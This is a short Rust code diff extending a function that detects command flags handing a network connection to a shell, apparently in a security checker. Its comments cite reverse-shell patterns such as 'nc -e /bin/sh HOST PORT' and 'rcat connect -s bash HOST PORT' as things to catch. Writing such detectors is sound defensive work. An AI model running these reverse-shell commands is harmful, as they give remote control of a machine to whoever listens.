@@ -1037,8 +1037,9 @@ fn names_a_shell(flag: Option<&&str>) -> bool {
             && super::words::parts(f)
                 .iter()
                 .any(|p| matches!(p.as_str(), "shell" | "console" | "terminal"))
-            // Or the program to run for a connection (`nc -e /bin/sh HOST PORT`, `--exec`).
-            || matches!(*f, "-e" | "--exec" | "--sh-exec")
+            // Or the program to run for a connection (`nc -e /bin/sh HOST PORT`, `--exec`,
+            // `rcat connect -s bash HOST PORT`).
+            || matches!(*f, "-e" | "-s" | "--exec" | "--sh-exec")
     })
 }
 
